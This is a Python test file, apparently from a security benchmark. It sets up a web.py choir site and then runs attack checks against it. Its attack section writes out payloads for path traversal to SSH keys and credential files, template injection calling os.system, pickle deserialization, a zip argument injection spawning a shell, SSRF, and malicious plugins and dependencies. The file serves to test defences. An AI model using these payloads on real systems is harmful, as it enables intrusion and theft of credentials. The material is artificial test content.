# SPDX-License-Identifier: Apache-2.0
"""A site on web.py: sessions on disk, uploads, templates of its own kind."""
import base64
import os
import pickle
import secrets

from attackers import Bomb, in_yaml
import stage

PEOPLE = ["agnes", "bert", "clara", "Eva Maria", "d.ito", "xu-lin"]
PITCHES = {"__init__.py": "NAMES = 'C D EF G A B'\n\n\n"
                          "def hertz(note):\n"
                          "    step = NAMES.index(note[0]) - 9\n"
                          "    return 440 * 2 ** (step / 12 "
                          "+ int(note[1:]) - 4)\n"}
PITCHES_NEW = {
    "__init__.py": "from pitches.tables import hertz\n",
    "tables.py": "import json\nimport pathlib\n\n"
                 "TABLE = json.loads((pathlib.Path(__file__).parent"
                 " / 'data/equal.json').read_text())\n\n\n"
                 "def hertz(note):\n"
                 "    return TABLE[note[0]] * 2 ** (int(note[1:]) - 4)\n",
    "data/equal.json": '{"C": 261.63, "D": 293.66, "E": 329.63, "F": 349.23,'
                       ' "G": 392.0, "A": 440.0, "B": 493.88}'}
PDF = b"%PDF-1.4 " + b"notes" * 60
ESCAPE = "$calendar.sys.modules['os']"


class WebpyChoir(stage.Service):
    """Scores, rehearsals and letters of a choir (web.py, cheroot)."""
    packages = ["python3-webpy", "python3-yaml", "python3-xlsxwriter", "zip",
                "file"]

    def arrange(self):
        stage.write(self.srv / "settings.yaml",
                    f"secret_key: not-{stage.SECRET}\n", 0o600)
        (self.srv / "var").mkdir()
        (self.srv / "programmes").mkdir()
        self.install("pitches", "2.1.0", PITCHES)
        self.seed("var/choir.db", self.python, "seed.py", *PEOPLE)

    def arrange_benign(self):
        self.install("pitches", "2.2.0", PITCHES_NEW)

    def command(self):
        return [self.python, "choir.py", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        self.expect_answer(f"{name} sees the form", browser.get("/login"),
                           "<form")
        self.expect_answer(f"{name} enters", browser.post(
            "/login", user=name, password=name[::-1]), f"<p>{name}</p>")
        return browser

    def brings(self, browser, piece, files):
        for name, kind in files.items():
            self.expect_answer(f"{name} of {piece}", browser.upload(
                f"/scores/{piece}", name, PDF), kind)
            self.expect_answer(f"{name} again", browser.get(
                f"/scores/{piece}", name=name), PDF)
        self.expect_answer(f"scores of {piece}", browser.get(
            f"/scores/{piece}"), "<h1>")
        names = "&".join(f"name={name}" for name in files)
        self.expect_answer(f"bundle of {piece}", browser.fetch(
            f"/scores/{piece.replace(' ', '%20')}/bundle?{names}"), b"PK")

    def rehearse(self, browser, day, place, present):
        self.expect_answer(f"rehearsal of {day}", browser.fetch(
            "/rehearsals", "&".join(
                [f"day={day}", f"place={place}",
                 *(f"present={name}" for name in present)]).encode()),
            f"{len(present)} were there")
        self.expect_answer("rehearsals", browser.get("/rehearsals"), day[8:])
        year, month = day.split("-")[:2]
        self.expect_answer(f"sheet of {month}", browser.get(
            f"/report/{year}/{month}.xlsx"), b"PK")
        self.expect_answer(f"table of {month}", browser.get(
            f"/report/{year}/{month}.csv"), present[0].replace("+", " "))

    def writes(self, browser, text):
        self.expect_answer(f"letter {text[:20]}", browser.post(
            "/letter", text=text + "\n$calendar.month_name[5], $member"),
            "May")

    def plans(self, browser, title, pieces):
        self.expect_answer(f"programme {title}", browser.post(
            "/programme", text=f"title: {title}\npieces:\n" + "".join(
                f"- {piece}\n" for piece in pieces)),
            f"{len(pieces)} pieces")

    def listen(self, browser, path):
        self.expect_answer(f"recording {path}", browser.get(
            "/recording", url=self.site("radio").url + path), "OggS")

    def sing(self, browser, voice, note):
        self.expect_answer(f"{voice} {note}", browser.get(
            f"/voice/{voice}", note=note), note)

    def leaves(self, browser):
        self.expect_answer("goes", browser.post("/logout"), "nobody")

    def train(self, day):
        self.site("radio").page("*", "OggS" + "la" * 30)
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "nobody")
        self.expect_answer("style", visitor.get("/static/choir.css"), "navy")
        self.expect_answer("stranger", visitor.get("/rehearsals"), status=403)
        self.expect_answer("wrong password", visitor.post(
            "/login", user="bert", password="x"), status=403)
        for name, piece, files, date, place, present, voice, note in (
                ("agnes", f"Kyrie {day}", {"soprano.pdf": "application/pdf"},
                 f"2026-03-0{day}", "hall", ["agnes", "bert"], "soprano",
                 "C5"),
                ("bert", f"gloria-{day}", {
                    "bass.pdf": "pdf", f"bass_v{day}.mscz": "pdf"},
                 f"2026-0{day}-17", "church", ["bert", "clara", "agnes"],
                 "bass", "E3"),
                ("clara", "Sanctus", {"alto.part.pdf": "pdf",
                                      f"page{day}.png": "pdf",
                                      "tenor.mid": "pdf"},
                 f"2026-04-2{day}", f"room{day}", ["clara"],
                 ["alto", "tenor"][day % 2], "A4")):
            browser = self.enter(name)
            self.brings(browser, piece, files)
            self.rehearse(browser, date, place, present)
            self.writes(browser, f"Dear {name}, we meet on {date}.")
            self.plans(browser, f"Concert {day}", [piece, "Ave"][:1 + day % 2])
            self.listen(browser, f"/{date}/{voice}.ogg")
            self.sing(browser, voice, note)
            self.sing(browser, "alto", "G4")
            self.sing(browser, "tenor", "F3")
            self.expect_answer("seats", browser.get("/seats", rows="4*7"),
                               "28")
            self.leaves(browser)
        browser = self.enter("agnes")
        self.expect_answer("no such score", browser.get(
            "/scores/Sanctus", name="none.pdf"), status=500)
        self.expect_answer("no such page", visitor.get("/none"), status=404)
        self.restart()
        self.expect_answer("still in", browser.get("/"), "<p>agnes</p>")

    def benign(self):
        self.site("radio").page("*", "OggS" + "la" * 500)
        for name, piece, files, date, place, present, voice, note in (
                ("Eva Maria", "Stabat Mater (Rossini)", {
                    "Solo.S.2027.pdf": "pdf", "a-b_c.musicxml": "pdf",
                    "x": "pdf", "cello.pdf": "pdf"},
                 "2027-11-30", "Aula+2", ["Eva+Maria", "d.ito"], "alto",
                 "D4"),
                ("d.ito", "No. 7", {"organ.heic": "pdf"},
                 "2031-12-01", "home", ["d.ito"] * 4, "tenor", "B3"),
                ("xu-lin", "requiem.v2", {"r.PDF": "pdf", "s.tiff": "pdf"},
                 "2026-01-31", "x", ["xu-lin"], "bass", "C3"),
                ("agnes", "Kyrie 1", {"soprano.pdf": "pdf"},
                 "2026-03-01", "hall", ["agnes"], "soprano", "A5")):
            browser = self.enter(name)
            self.brings(browser, piece, files)
            self.rehearse(browser, date, place, present)
            self.writes(browser, "Grüße!\n$for i in range(3):\n    $i\n")
            self.plans(browser, "Übung & mehr", [piece, "b", "c", "d"])
            self.listen(browser, f"/archive/{date[:4]}/{voice}-1.flac?lo=1")
            self.sing(browser, voice, note)
            self.expect_answer("seats", browser.get("/seats", rows="12*9+3"),
                               "111")
        self.expect_answer("name with spaces", browser.upload(
            "/scores/Ave verum/parts/low", "Chor Nr. 2 (neu).pdf", PDF),
            "pdf")
        self.expect_answer("it again", browser.get(
            "/scores/Ave verum/parts/low", name="Chor Nr. 2 (neu).pdf"), PDF)
        self.expect_answer("large", browser.upload(
            "/scores/large", "full score.pdf", PDF * 4000), "pdf")
        self.leaves(browser)
        self.expect_answer("then a stranger", browser.get("/rehearsals"),
                           status=403)
        browser = self.enter("clara")
        self.expect_answer("no voice", browser.get("/voice/castrato"),
                           status=500)
        self.expect_answer("no note", browser.get("/voice/alto", note="H9"),
                           status=500)
        self.expect_answer("no template", browser.post(
            "/letter", text="$if"), status=500)
        self.expect_answer("empty month", browser.get("/report/2040/2.xlsx"),
                           b"PK")
        self.expect_answer("no report", browser.get("/report/2040/2.pdf"),
                           status=404)
        self.expect_answer("no method", browser.post("/seats"), status=405)
        self.expect_answer("no style", browser.get("/static/none.css"),
                           status=404)
        self.expect_answer("favicon", browser.get("/favicon.ico"), status=404)
        self.restart()
        self.expect_answer("still in", browser.get("/"), "<p>clara</p>")

    def health(self):
        browser = self.enter("agnes")
        self.brings(browser, "Kyrie 1", {"soprano.pdf": "pdf"})
        self.rehearse(browser, "2026-03-01", "hall", ["agnes"])

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("bert").get(path, **query)[1]

    def sends(self, name, text, piece="Kyrie"):
        self.enter("bert").upload(f"/scores/{piece}", name, text)

    def letter(self, text):
        return self.enter("bert").post("/letter", text=text)[1]

    def loads_session(self, *call):
        """A session of its own making, with its cookie."""
        name = secrets.token_hex(20)
        self.sends(f"../../sessions/{name}", base64.encodebytes(
            pickle.dumps(Bomb(*call))))
        self.browser().fetch("/", headers={"Cookie": f"choir={name}"})

    @stage.attack("traversal")
    def score_is_a_private_key(self):
        self.sends("a.pdf", PDF)
        return self.is_told(self.gets(
            "/scores/Kyrie", name="../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def score_is_the_source(self):
        return b"HOLE" in self.gets("/scores/Kyrie",
                                    name=f"{self.srv}/choir.py")

    @stage.attack("secret disclosure")
    def score_is_the_settings(self):
        return self.is_told(self.gets("/scores/Kyrie",
                                      name=f"{self.srv}/settings.yaml"))

    @stage.attack("secret disclosure")
    def score_is_the_database(self):
        self.sends("a.pdf", PDF)
        return b"SQLite" in self.gets("/scores/Kyrie",
                                      name="../../choir.db")

    @stage.attack("secret disclosure")
    def score_is_somebody_elses_session(self):
        self.enter("agnes")
        name = next((self.srv / "var/sessions").iterdir()).name
        return len(self.gets("/scores/Kyrie",
                             name=f"{self.srv}/var/sessions/{name}")) > 99

    @stage.attack("write to code", fresh=True)
    def score_replaces_a_template(self):
        self.sends("../../../templates/home.html", b"planted")
        return "planted" in (self.srv / "templates/home.html").read_text()

    @stage.attack("malicious plugin", fresh=True)
    def score_becomes_a_voice(self):
        def use(line):
            self.sends("../../../voices/evil.py",
                       f"import os\nos.system('{line}')\n".encode())
            self.gets("/voice/evil")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def score_replaces_the_profile(self):
        self.sends(f"{self.home}/.bashrc", b"planted")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def score_becomes_a_pth_file(self):
        self.sends(f"{self.site_packages}/y.pth", b"import os")
        return (self.site_packages / "y.pth").exists()

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.letter(
            f"{ESCAPE}.system('{line}')"))

    @stage.attack("template injection")
    def letter_reads_the_payroll(self):
        return self.is_told(self.letter(
            f"{ESCAPE}.popen('cat {self.place}/payroll/2026.csv').read()"))

    @stage.attack("secret disclosure")
    def letter_reads_credentials(self):
        return self.is_told(self.letter(
            f"$calendar.sys.modules['io'].open('{self.home}/.netrc').read()"))

    @stage.attack("SSRF")
    def recording_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.gets("/recording", url=url))

    @stage.attack("SSRF")
    def recording_is_redirected_inside(self):
        return self.is_redirected_inside(
            "radio", lambda url: self.gets("/recording", url=url))

    @stage.attack("secret disclosure")
    def recording_is_a_local_file(self):
        return self.is_told(self.gets(
            "/recording", url=f"file://{self.home}/.aws/credentials"))

    @stage.attack("command injection")
    def bundle_runs_a_command(self):
        self.sends("a.pdf", PDF)
        return self.runs_line(lambda line: self.gets(
            "/scores/Kyrie/bundle", name=f"a.pdf; {line}"))

    @stage.attack("argument injection")
    def bundle_is_tested_by_a_shell(self):
        self.sends("a.pdf", PDF)
        return self.runs_line(lambda line: self.gets(
            "/scores/Kyrie/bundle",
            name=f"a.pdf -T -TT 'sh -c \"{line}\" #'"))

    @stage.attack("traversal")
    def bundle_holds_the_payroll(self):
        self.sends("a.pdf", PDF)
        return b"payroll" in self.gets(
            "/scores/Kyrie/bundle", name=f"{self.place}/payroll/2026.csv")

    @stage.attack("unsafe pickle", fresh=True)
    def session_runs_a_command(self):
        return self.runs_line(
            lambda line: self.loads_session(os.system, line))

    @stage.attack("unsafe yaml")
    def programme_calls_home(self):
        return self.calls_home(lambda code: self.enter("bert").post(
            "/programme", text=in_yaml(code)))

    @stage.attack("exfiltration")
    def programme_sends_credentials(self):
        return self.steals(lambda code: self.enter("bert").post(
            "/programme", text=in_yaml(code)))

    @stage.attack("ctypes")
    def seats_call_libc(self):
        return self.runs_libc(lambda code: self.gets("/seats", rows=code))

    @stage.attack("fork+exec")
    def seats_fork(self):
        return self.forks(lambda code: self.gets(
            "/seats", rows=f"exec({code!r})"))

    @stage.attack("symlink swap", fresh=True)
    def score_became_a_link(self):
        self.sends("a.pdf", PDF)
        path = self.srv / "var/scores/Kyrie/a.pdf"
        path.unlink()
        path.symlink_to(self.home / ".netrc")
        return self.is_told(self.gets("/scores/Kyrie", name="a.pdf"))

    @stage.attack("malicious dependency", fresh=True)
    def pitches_send_credentials(self):
        return self.dependency_steals("pitches", "2.1.1", PITCHES,
                                      self.restart)
